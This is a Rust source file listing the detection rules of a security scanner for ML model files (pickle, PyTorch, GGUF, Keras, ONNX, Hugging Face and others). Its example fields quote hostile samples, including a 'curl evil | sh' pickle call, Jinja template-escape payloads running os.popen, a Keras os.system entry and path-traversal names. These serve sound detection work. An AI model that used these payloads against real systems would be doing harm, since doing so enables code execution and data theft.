//! The rules this scanner raises. Ids are stable: never renumber, never reuse.

use mlsec_diagnostics::{Rule, rule};

const ML06: &[&str] = &["ML06"];
const ML06_ML10: &[&str] = &["ML06", "ML10"];

rule!(PICKLE_DANGEROUS_GLOBAL, "PKL001", "pickle-dangerous-global", Critical, &["CWE-502", "CWE-94"], ML06_ML10,
    summary: "Pickle imports a callable that runs code, commands, or touches files or the network",
    what: "Flags pickle streams whose GLOBAL, STACK_GLOBAL or INST opcodes (or callables assembled from strings through getattr, importlib, operator or pkgutil trampolines) resolve to a known code-execution, file or network primitive.",
    why: "Unpickling calls these objects. Loading the file with torch.load, joblib.load, pickle.load or numpy.load(allow_pickle=True) runs the attacker's command with the loader's privileges.",
    example: "A .pt file whose data.pkl does `posix.system('curl evil | sh')` through REDUCE.",
    fix: "Do not load this file. Obtain the model from a trusted source, or re-export the weights to safetensors from a trusted environment.",
    refs: &["https://docs.python.org/3/library/pickle.html#restricting-globals", "https://owasp.org/www-project-machine-learning-security-top-10/docs/ML06_2023-AI_Supply_Chain_Attacks"]);

rule!(PICKLE_UNKNOWN_GLOBAL, "PKL002", "pickle-unknown-global", Medium, &["CWE-502"], ML06,
    summary: "Pickle imports a global that is not on the allowlist of safe ML globals",
    what: "Flags imports that are neither known-safe (tensor rebuild helpers, numpy core, collections, estimator classes of common ML libraries) nor known-dangerous. The severity depends on where the global lives and what its name suggests.",
    why: "Any importable callable can be invoked by a pickle. An unknown global is either custom model code you must trust, or an attempt to use a primitive the denylist does not know.",
    example: "`__main__.MyModel` in a full torch.save(model) checkpoint, or `somepkg.utils.run_hook`.",
    fix: "Review the named global. If it is your own class, load with weights_only=True or re-save as a state dict or safetensors.",
    refs: &["https://pytorch.org/docs/stable/notes/serialization.html#weights-only"]);

rule!(PICKLE_DYNAMIC_IMPORT, "PKL003", "pickle-dynamic-import", High, &["CWE-502"], ML06,
    summary: "Pickle imports or calls something that cannot be resolved statically",
    what: "Flags STACK_GLOBAL operands that are not strings, and calls whose callable is the result of another call.",
    why: "Legitimate pickles name their globals with constant strings. Computed names are how payloads hide from scanners that pattern-match opcodes.",
    example: "STACK_GLOBAL whose module operand is the result of a REDUCE.",
    fix: "Treat the file as hostile unless its origin is trusted.",
    refs: &[]);

rule!(PICKLE_EXTENSION_CODE, "PKL004", "pickle-extension-code", High, &["CWE-502"], ML06,
    summary: "Pickle imports through the copyreg extension registry (EXT1/EXT2/EXT4)",
    what: "Flags EXT1, EXT2 and EXT4 opcodes, which import a global by an integer code registered with copyreg.add_extension.",
    why: "The code-to-global mapping lives in the loading process, not the file, so the import cannot be checked statically; ML libraries never use it.",
    example: "`\\x82\\x01` (EXT1 code 1).",
    fix: "Treat the file as hostile unless its origin is trusted.",
    refs: &["https://docs.python.org/3/library/copyreg.html"]);

rule!(PICKLE_ATTRIBUTE_OVERWRITE, "PKL005", "pickle-attribute-overwrite", Critical, &["CWE-502", "CWE-915"], ML06_ML10,
    summary: "Pickle uses BUILD to set attributes on an imported function, class or module",
    what: "Flags BUILD opcodes applied directly to an imported global instead of to an instance.",
    why: "Setting `__code__`, `__globals__`, `__defaults__` or other attributes of an allowlisted function turns a safe import into a gadget that runs attacker code.",
    example: "`numpy.load` imported, then BUILD sets its `__defaults__`.",
    fix: "Do not load this file.",
    refs: &[]);

rule!(PICKLE_MALFORMED, "PKL006", "pickle-malformed", Medium, &["CWE-20"], ML06,
    summary: "Pickle stream could not be parsed completely",
    what: "Flags pickle streams that are truncated, contain unknown opcodes, or misuse the stack or memo. Everything resolved before the break is still reported.",
    why: "An unpickler runs every opcode before the break, so a payload can sit in a stream that ends in garbage; scanners that give up on parse errors report such files as clean.",
    example: "A valid `os.system` call followed by an invalid opcode.",
    fix: "Treat the file as untrusted; re-obtain it from its source.",
    refs: &[]);

rule!(PICKLE_LIMIT, "PKL007", "pickle-limit-exceeded", High, &["CWE-400"], ML06,
    summary: "Pickle exceeds an analysis limit (opcodes, memo, stack, nesting)",
    what: "Flags pickle streams that exceed the named analysis limits. Analysis stops at the limit; what was resolved before it is reported.",
    why: "Oversized structures are used to exhaust scanners and hide payloads past the point where analysis stops.",
    example: "Millions of memo entries, or pickles nested in bytes many levels deep.",
    fix: "Treat the file as untrusted.",
    refs: &[]);

rule!(PICKLE_EXPANSION, "PKL008", "pickle-resource-exhaustion", Medium, &["CWE-400", "CWE-776"], ML06,
    summary: "Pickle builds a value far larger than the stream (reference expansion or a huge allocation)",
    what: "Flags pickles whose loaded value expands, through shared memo or DUP references, to millions of times more references than the stream has opcodes (a billion-laughs structure), and calls of allocating constructors (`bytes(n)`, `bytearray(n)`, `list(range(n))`) with sizes of a gigabyte or more.",
    why: "A few hundred bytes can make the loader, or anything that walks the loaded object, exhaust memory or time: a denial of service against the serving host or the CI job that loads the model.",
    example: "`L1 = [L0, L0]`, `L2 = [L1, L1]`, ... 29 levels deep; or `builtins.bytearray(10**12)`.",
    fix: "Do not load the file; regenerate it from a trusted source.",
    refs: &["https://cwe.mitre.org/data/definitions/776.html"]);

rule!(TORCH_TENSOR_BOUNDS, "PT001", "torch-tensor-out-of-bounds", High, &["CWE-787", "CWE-125"], ML06,
    summary: "PyTorch checkpoint builds tensors outside their storage, or mutates tensors while loading",
    what: "Flags PyTorch archives whose storages declare more elements than their `data/` member holds, tensor views (offset, size, stride) that reach past their storage, and BUILD or SETITEM applied to a tensor, using only globals the `weights_only` loader allows.",
    why: "These target the \"safe\" loader itself: `torch.load(weights_only=True)` trusts the numbers in the pickle, so a file that passes an allowlist can still read or write memory it does not own.",
    example: "`('storage', torch.FloatStorage, '0', 'cpu', 1000000)` over a 16-byte `data/0`; `_rebuild_tensor_v2(storage, 0, (1000000,), (1,))` over a 4-element storage.",
    fix: "Do not load the file; re-export the weights to safetensors from a trusted copy.",
    refs: &["https://github.com/pytorch/pytorch/security/advisories"]);

rule!(TFLITE_CUSTOM_OPERATOR, "TFL001", "tflite-custom-operator", Medium, &["CWE-829"], ML06,
    summary: "TensorFlow Lite model uses custom or Flex (TensorFlow) operators",
    what: "Flags `.tflite` models whose operator codes include custom operators, which run kernels registered by the application, and Flex operators, which run TensorFlow ops through the select-ops delegate; high when a Flex op reads or writes files or runs Python.",
    why: "Built-in kernels are the reviewed surface of the interpreter; a custom operator runs whatever the loading application registered under that name, and Flex ops bring TensorFlow's file and Python ops along.",
    example: "An operator code `CUSTOM` with `custom_code: \"FlexWriteFile\"`.",
    fix: "Check that every custom operator is one your application registers on purpose; avoid Flex ops that touch files.",
    refs: &["https://www.tensorflow.org/lite/guide/ops_custom", "https://www.tensorflow.org/lite/guide/ops_select"]);

rule!(TFLITE_MALFORMED, "TFL002", "tflite-malformed", Medium, &["CWE-20"], ML06,
    summary: "TensorFlow Lite model cannot be parsed",
    what: "Flags `.tflite` files (or files with the `TFL3` identifier) whose FlatBuffer offsets, vtables or vectors point outside the file or exceed the parser's limits.",
    why: "The interpreter's own verifier is all that stands between such a file and out-of-bounds reads; the scanner cannot say what it would run.",
    example: "A root table whose vtable offset points before the start of the file.",
    fix: "Obtain the model again from its source.",
    refs: &[]);

rule!(ARCHIVE_NAME_MISMATCH, "ARC001", "archive-name-mismatch", High, &["CWE-436"], ML06,
    summary: "Zip member's local header name differs from its central directory name",
    what: "Flags zip members whose local file header names a different file than the central directory.",
    why: "PyTorch (miniz) trusts the central directory while Python's zipfile refuses the member, so a Python scanner skips the member PyTorch loads.",
    example: "Central name `archive/data.pkl`, local name `archive/data.txt`.",
    fix: "Do not load the file; re-obtain it from its source.",
    refs: &[]);

rule!(ARCHIVE_DUPLICATE_ENTRY, "ARC002", "archive-duplicate-entry", High, &["CWE-436"], ML06,
    summary: "Zip archive contains two members with the same name",
    what: "Flags archives with duplicate member names. Every copy is scanned.",
    why: "Readers disagree on which copy wins; a scanner may check the benign copy while the loader takes the malicious one.",
    example: "Two `archive/data.pkl` entries.",
    fix: "Do not load the file.",
    refs: &[]);

rule!(ARCHIVE_OVERLAP, "ARC003", "archive-overlapping-entries", High, &["CWE-409"], ML06,
    summary: "Zip members overlap in the archive",
    what: "Flags zip members whose data ranges overlap.",
    why: "Overlapping members are the building block of non-recursive zip bombs and of archives that show different content to different readers.",
    example: "Many central entries pointing at one compressed kernel.",
    fix: "Do not extract or load the file.",
    refs: &["https://www.bamsoftware.com/hacks/zipbomb/"]);

rule!(ARCHIVE_CRC, "ARC004", "archive-crc-mismatch", Medium, &["CWE-354"], ML06,
    summary: "Zip member's CRC-32 does not match its data",
    what: "Flags members whose data does not match the CRC-32 recorded in the central directory. The member is still scanned.",
    why: "Python's zipfile raises on a bad CRC, so Python scanners skip the member, while PyTorch loads it without checking.",
    example: "A data.pkl whose CRC field was zeroed after a payload was inserted.",
    fix: "Treat the file as tampered with; re-obtain it.",
    refs: &[]);

rule!(ARCHIVE_ENCRYPTED_FLAG, "ARC005", "archive-encrypted-flag", Medium, &["CWE-436"], ML06,
    summary: "Zip member has the encryption flag set",
    what: "Flags members with general-purpose bit 0 set. The member is read as if unencrypted, as PyTorch does.",
    why: "Python's zipfile refuses encrypted members, so Python scanners skip them; PyTorch ignores the flag and loads the plain data.",
    example: "data.pkl stored in plain text with the encryption bit set.",
    fix: "Treat the file as tampered with; re-obtain it.",
    refs: &[]);

rule!(ARCHIVE_LIMIT, "ARC006", "archive-limit-exceeded", High, &["CWE-409"], ML06,
    summary: "Archive exceeds a decompression or size limit (possible bomb)",
    what: "Flags archives and compressed streams that exceed the named limits on entries, inflated size, compression ratio or nesting depth. Content past the limit is not scanned.",
    why: "Decompression bombs exhaust memory and disk in loaders and pipelines, and hide payloads from scanners that give up.",
    example: "A 40 KB zip that inflates to 4 GB.",
    fix: "Do not extract or load the file.",
    refs: &[]);

rule!(ARCHIVE_UNSAFE_PATH, "ARC007", "archive-unsafe-path", High, &["CWE-22"], ML06,
    summary: "Archive member path is absolute or escapes with `..`",
    what: "Flags archive members whose names are absolute or contain `..` components.",
    why: "Extracting the archive writes outside the target directory (zip slip), e.g. over a startup script.",
    example: "`../../.bashrc`.",
    fix: "Do not extract the archive with a tool that follows such paths.",
    refs: &["https://security.snyk.io/research/zip-slip-vulnerability"]);

rule!(ARCHIVE_UNSCANNABLE, "ARC008", "archive-unscannable", Medium, &["CWE-693"], ML06,
    summary: "Container content could not be inspected",
    what: "Flags archives or members the scanner cannot open: 7z archives, unsupported compression methods, real encryption.",
    why: "Content that cannot be inspected must not be reported as clean. Several public scanner bypasses pack a pickle in a format the scanner skips.",
    example: "A PyTorch checkpoint packed in a 7z archive.",
    fix: "Unpack the content with a trusted tool and scan it, or do not load it.",
    refs: &[]);

rule!(ARCHIVE_MALFORMED, "ARC009", "archive-malformed", Medium, &["CWE-20"], ML06,
    summary: "Archive or compressed stream is corrupt or truncated",
    what: "Flags zip, tar and compressed streams that cannot be read completely. Readable members are still scanned.",
    why: "Corruption changes what different readers see, and a scanner must not report unreadable content as clean.",
    example: "A zip with a bad local header before data.pkl.",
    fix: "Re-obtain the file from its source.",
    refs: &[]);

rule!(TORCHSCRIPT_CUSTOM_OPERATOR, "TS001", "torchscript-custom-operator", Medium, &["CWE-829"], ML06,
    summary: "TorchScript code calls an operator from a custom namespace",
    what: "Flags `ops.<namespace>.<op>` calls in a TorchScript archive's code whose namespace is not one PyTorch itself provides (aten, prim, quantized, ...).",
    why: "Custom operators are implemented in native libraries loaded into the process (torch.ops.load_library); the model cannot run without trusting that code.",
    example: "`return ops.my_ext.fused_attention(x)` in code/__torch__.py.",
    fix: "Check that the operator library comes from a trusted source and is pinned.",
    refs: &["https://pytorch.org/tutorials/advanced/torch_script_custom_ops.html"]);

rule!(NUMPY_OBJECT_ARRAY, "NPY001", "numpy-object-array", Medium, &["CWE-502"], ML06,
    summary: "NumPy array with an object dtype: its data is a pickle",
    what: "Flags .npy arrays (also inside .npz) whose dtype holds Python objects. The embedded pickle is analysed and its findings reported too.",
    why: "Loading it needs numpy.load(allow_pickle=True), which unpickles the data.",
    example: "`np.save('a.npy', np.array([obj], dtype=object))`.",
    fix: "Store numeric arrays only, or load with allow_pickle=False.",
    refs: &["https://numpy.org/doc/stable/reference/generated/numpy.load.html"]);

rule!(NUMPY_MALFORMED, "NPY002", "numpy-malformed", Medium, &["CWE-20"], ML06,
    summary: "NumPy .npy header is invalid or disagrees with the file size",
    what: "Flags .npy files whose header cannot be parsed or declares more data than the file holds.",
    why: "Malformed headers are used to crash or confuse loaders.",
    example: "shape (1000000,) in a 200-byte file.",
    fix: "Re-obtain the file.",
    refs: &[]);

rule!(SAFETENSORS_INVALID, "ST001", "safetensors-invalid-header", High, &["CWE-20"], ML06,
    summary: "safetensors header is invalid (offsets, overlaps, dtypes, sizes)",
    what: "Validates the header strictly: length, JSON, duplicate keys, dtypes, shapes against byte sizes, overlaps, gaps, bounds and trailing data.",
    why: "Loaders that skip validation read out of bounds; overlaps and hidden trailing data let two tensors alias or smuggle content.",
    example: "Two tensors with data_offsets [0, 8] and [4, 12].",
    fix: "Re-export the file with the safetensors library from a trusted source.",
    refs: &["https://github.com/huggingface/safetensors"]);

rule!(GGUF_MALFORMED, "GGUF001", "gguf-malformed", High, &["CWE-20", "CWE-787"], ML06,
    summary: "GGUF header, metadata or tensor infos are invalid",
    what: "Validates GGUF magic, version, counts, string and array lengths, tensor types, alignment, bounds and overlaps.",
    why: "GGUF parsers in C and C++ have had heap overflows from unchecked counts and lengths; a file that is malformed in these ways is an exploit attempt or corrupt.",
    example: "A tensor count of 2^64-1.",
    fix: "Re-obtain the file; do not load it with an unpatched runtime.",
    refs: &["https://github.com/ggml-org/ggml/blob/master/docs/gguf.md"]);

rule!(GGUF_TEMPLATE_INJECTION, "GGUF002", "gguf-template-injection", Critical, &["CWE-1336", "CWE-94"], ML06,
    summary: "GGUF chat template reaches Python internals (Jinja server-side template injection)",
    what: "Flags chat templates in GGUF metadata that access dunder attributes, use `attr` filters or escape sequences to build attribute names, or name objects used to escape the Jinja sandbox.",
    why: "Runtimes such as llama-cpp-python rendered chat templates in an unsandboxed Jinja environment (CVE-2024-34359), so a template can run arbitrary code when the model is loaded.",
    example: "`{{ ''.__class__.__mro__[1].__subclasses__() }}`.",
    fix: "Do not load the model with a runtime that renders templates outside a sandbox; replace the chat template.",
    refs: &["https://nvd.nist.gov/vuln/detail/CVE-2024-34359"]);

rule!(ONNX_CUSTOM_OPERATOR, "ONNX001", "onnx-custom-operator", Medium, &["CWE-829"], ML06,
    summary: "ONNX model uses an operator from a custom domain",
    what: "Flags nodes and opset imports whose domain is not a standard ONNX or ONNX Runtime domain.",
    why: "Custom operators are implemented in native shared libraries that must be loaded into the runtime; the model cannot run without trusting that code.",
    example: "A node with domain `com.example.ops`.",
    fix: "Check that the custom operator library comes from a trusted source.",
    refs: &["https://onnxruntime.ai/docs/reference/operators/add-custom-op.html"]);

rule!(ONNX_EXTERNAL_TRAVERSAL, "ONNX002", "onnx-external-data-traversal", High, &["CWE-22"], ML06,
    summary: "ONNX external data path escapes the model directory",
    what: "Flags tensors whose external data location is absolute, contains `..`, or resolves through a symlink outside the model directory.",
    why: "Loading the model reads arbitrary files (e.g. /etc/shadow or cloud credentials) into tensors, which can then be exfiltrated through outputs.",
    example: "location `../../../../etc/passwd`.",
    fix: "Do not load the model; external data must live beside the model file.",
    refs: &["https://nvd.nist.gov/vuln/detail/CVE-2022-25882"]);

rule!(ONNX_MALFORMED, "ONNX003", "onnx-malformed", Medium, &["CWE-20"], ML06,
    summary: "ONNX protobuf could not be parsed",
    what: "Flags ONNX files that are not valid protobuf or exceed a parsing limit.",
    why: "Malformed models crash runtimes and cannot be verified.",
    example: "A truncated .onnx file.",
    fix: "Re-obtain the file.",
    refs: &[]);

rule!(KERAS_LAMBDA, "KER001", "keras-lambda-layer", High, &["CWE-94"], ML06,
    summary: "Keras model contains a Lambda layer (serialized Python code)",
    what: "Flags Lambda layers in .keras, legacy .h5 and SavedModel Keras metadata. A Lambda carrying marshalled bytecode is critical.",
    why: "Deserializing a Lambda layer runs its Python bytecode (safe_mode=False, or older Keras versions).",
    example: "`{\"class_name\": \"Lambda\", \"config\": {\"function\": [\"4wEAAAAA...\", null, null]}}`.",
    fix: "Replace Lambda layers with registered custom layers whose code you review; load with safe_mode=True.",
    refs: &["https://keras.io/api/models/model_saving_apis/model_saving_and_loading/"]);

rule!(KERAS_UNSAFE_MODULE, "KER002", "keras-unsafe-module", Critical, &["CWE-94", "CWE-502"], ML06,
    summary: "Keras config deserializes an object from a dangerous module",
    what: "Flags Keras config entries whose `module`/`class_name`/`registered_name` name a code-execution, file or network primitive.",
    why: "Keras imports the module and looks the name up while loading the config, so `{\"module\": \"os\", \"class_name\": \"function\", \"config\": \"system\"}` style entries call into the OS.",
    example: "`{\"module\": \"os\", \"class_name\": \"function\", \"config\": \"system\"}`.",
    fix: "Do not load this model.",
    refs: &["https://nvd.nist.gov/vuln/detail/CVE-2025-1550"]);

rule!(KERAS_CUSTOM_OBJECT, "KER003", "keras-custom-object", Low, &["CWE-829"], ML06,
    summary: "Keras config references code outside Keras",
    what: "Flags config entries whose module is not part of Keras or TensorFlow, such as custom layers.",
    why: "Custom objects run code from the named module when the model loads; that code must be trusted.",
    example: "`{\"module\": \"my_layers\", \"class_name\": \"Attention\"}`.",
    fix: "Check the named module is yours and reviewed.",
    refs: &[]);

rule!(KERAS_MALFORMED, "KER004", "keras-malformed", Medium, &["CWE-20"], ML06,
    summary: "Keras archive or config could not be parsed",
    what: "Flags Keras archives without a readable config.json, or HDF5 files whose model_config is not valid JSON.",
    why: "A config the scanner cannot read cannot be reported as clean.",
    example: "A .keras zip whose config.json is truncated.",
    fix: "Re-obtain the file.",
    refs: &[]);

rule!(HDF5_MALFORMED, "H5001", "hdf5-malformed", Medium, &["CWE-20"], ML06,
    summary: "HDF5 file is truncated or its superblock is invalid",
    what: "Checks the HDF5 superblock (version, offset sizes, end-of-file address) against the file.",
    why: "A truncated or inconsistent HDF5 file cannot be verified; its model_config may be cut off or hidden past the declared end.",
    example: "A .h5 model cut in half during download.",
    fix: "Re-obtain the file.",
    refs: &["https://docs.hdfgroup.org/hdf5/develop/_f_m_t3.html"]);

rule!(TF_DANGEROUS_OP, "TF001", "tensorflow-dangerous-op", High, &["CWE-73", "CWE-94"], ML06,
    summary: "TensorFlow graph uses an op that reads or writes files or runs Python",
    what: "Flags SavedModel graph and function nodes using ops such as ReadFile, WriteFile, MatchingFiles, PyFunc or EagerPyFunc. The checkpoint ops every SavedModel uses (SaveV2, RestoreV2) are not flagged.",
    why: "Serving the model runs these ops: they can read secrets, overwrite files or call back into Python.",
    example: "A `ReadFile` node reading `/etc/passwd` into a constant.",
    fix: "Do not serve this model; rebuild it without file or Python ops.",
    refs: &["https://github.com/tensorflow/tensorflow/blob/master/SECURITY.md"]);

rule!(TF_MALFORMED, "TF002", "tensorflow-malformed", Medium, &["CWE-20"], ML06,
    summary: "TensorFlow SavedModel protobuf could not be parsed",
    what: "Flags saved_model.pb files that are not valid protobuf or exceed a limit.",
    why: "A graph the scanner cannot read cannot be reported as clean.",
    example: "A truncated saved_model.pb.",
    fix: "Re-obtain the file.",
    refs: &[]);

rule!(HF_TRUST_REMOTE_CODE, "HF001", "hf-trust-remote-code", High, &["CWE-829", "CWE-94"], ML06,
    summary: "Hugging Face model needs trust_remote_code (config auto_map)",
    what: "Flags config.json and tokenizer_config.json files with an `auto_map`, which makes transformers import Python code from the repository.",
    why: "trust_remote_code=True runs the repository's Python on load; a malicious or compromised repository runs anything.",
    example: "`\"auto_map\": {\"AutoModel\": \"modeling_evil.EvilModel\"}`.",
    fix: "Review the referenced code and pin the revision, or use a model that needs no remote code.",
    refs: &["https://huggingface.co/docs/transformers/models#custom-models"]);

rule!(HF_CUSTOM_CODE_FILE, "HF002", "hf-custom-code-file", Medium, &["CWE-829"], ML06,
    summary: "Python file shipped inside a model folder",
    what: "Flags `.py` files inside a folder that holds a Hugging Face config.json.",
    why: "These files run with trust_remote_code=True, or when users import them; they must be reviewed like any dependency.",
    example: "`modeling_custom.py` next to config.json.",
    fix: "Review the file and pin the model revision.",
    refs: &[]);

rule!(HF_TEMPLATE_INJECTION, "HF003", "hf-chat-template-injection", Critical, &["CWE-1336", "CWE-94"], ML06,
    summary: "Chat template outside GGUF reaches Python internals (Jinja server-side template injection)",
    what: "Flags `chat_template` in tokenizer_config.json and standalone `.jinja` chat templates that access dunder attributes, build attribute names from escapes, or name objects used to escape the Jinja sandbox; the same checks as GGUF002.",
    why: "Serving stacks render these templates with Jinja on every request; outside a sandbox, or through a sandbox escape, a template runs code on the server.",
    example: "`\"chat_template\": \"{{ cycler.__init__.__globals__.os.popen('id').read() }}\"`.",
    fix: "Replace the chat template with a reviewed one and render templates only in a sandboxed environment.",
    refs: &["https://nvd.nist.gov/vuln/detail/CVE-2024-34359"]);

rule!(HF_CONFIG_MALFORMED, "HF004", "hf-config-malformed", Medium, &["CWE-20"], ML06,
    summary: "Hugging Face config or tokenizer config cannot be read as JSON",
    what: "Flags config.json and tokenizer_config.json files that are not valid JSON, are truncated, or are too large to read; an `auto_map` or chat template seen in the raw text is still reported.",
    why: "The scanner cannot check what it cannot parse, and a file transformers rejects today may be repaired or read leniently by another loader.",
    example: "A config.json cut off in the middle of its `auto_map`.",
    fix: "Obtain the model again from its source and compare checksums.",
    refs: &[]);

rule!(UNRECOGNIZED_MODEL, "GEN001", "unrecognized-model-file", Low, &["CWE-693"], ML06,
    summary: "File has a model extension but its content matches no known model format",
    what: "Flags files named like models (.pt, .pkl, .bin, .h5, ...) whose bytes match no format the scanner knows.",
    why: "A model file the scanner cannot identify is not known to be safe.",
    example: "`model.pt` that is an unknown binary.",
    fix: "Find out what produced the file before loading it.",
    refs: &[]);

/// Every rule of this scanner, in id order.
pub static ALL: &[&Rule] = &[
    &PICKLE_DANGEROUS_GLOBAL,
    &PICKLE_UNKNOWN_GLOBAL,
    &PICKLE_DYNAMIC_IMPORT,
    &PICKLE_EXTENSION_CODE,
    &PICKLE_ATTRIBUTE_OVERWRITE,
    &PICKLE_MALFORMED,
    &PICKLE_LIMIT,
    &PICKLE_EXPANSION,
    &ARCHIVE_NAME_MISMATCH,
    &ARCHIVE_DUPLICATE_ENTRY,
    &ARCHIVE_OVERLAP,
    &ARCHIVE_CRC,
    &ARCHIVE_ENCRYPTED_FLAG,
    &ARCHIVE_LIMIT,
    &ARCHIVE_UNSAFE_PATH,
    &ARCHIVE_UNSCANNABLE,
    &ARCHIVE_MALFORMED,
    &TORCHSCRIPT_CUSTOM_OPERATOR,
    &TORCH_TENSOR_BOUNDS,
    &NUMPY_OBJECT_ARRAY,
    &NUMPY_MALFORMED,
    &SAFETENSORS_INVALID,
    &GGUF_MALFORMED,
    &GGUF_TEMPLATE_INJECTION,
    &ONNX_CUSTOM_OPERATOR,
    &ONNX_EXTERNAL_TRAVERSAL,
    &ONNX_MALFORMED,
    &KERAS_LAMBDA,
    &KERAS_UNSAFE_MODULE,
    &KERAS_CUSTOM_OBJECT,
    &KERAS_MALFORMED,
    &HDF5_MALFORMED,
    &TF_DANGEROUS_OP,
    &TF_MALFORMED,
    &TFLITE_CUSTOM_OPERATOR,
    &TFLITE_MALFORMED,
    &HF_TRUST_REMOTE_CODE,
    &HF_CUSTOM_CODE_FILE,
    &HF_TEMPLATE_INJECTION,
    &HF_CONFIG_MALFORMED,
    &UNRECOGNIZED_MODEL,
];
